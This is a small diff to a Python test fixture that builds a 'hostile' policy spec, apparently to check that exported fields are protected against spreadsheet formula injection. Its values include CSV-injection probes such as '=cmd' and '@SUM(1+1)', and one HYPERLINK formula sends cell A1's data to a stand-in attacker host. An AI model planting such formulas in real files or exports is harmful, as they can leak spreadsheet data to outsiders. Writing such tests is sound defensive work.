@@ -150,4 +150,4 @@ def hostile_policy() -> Spec:
                   ("retention", "", "=cmd data is kept for 30 days",
                    dict(min_days=30.0, max_days=30.0, data_category="=HYPERLINK(\"http://x\")")),
                   ("law", "gdpr", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")", {})],
-        facts={"contact_emails": "@SUM(1+1)", "third_party_services": "-2;+1"})
+        facts={"contact_emails": ["@SUM(1+1)"], "third_party_services": ["-2", "+1"]})
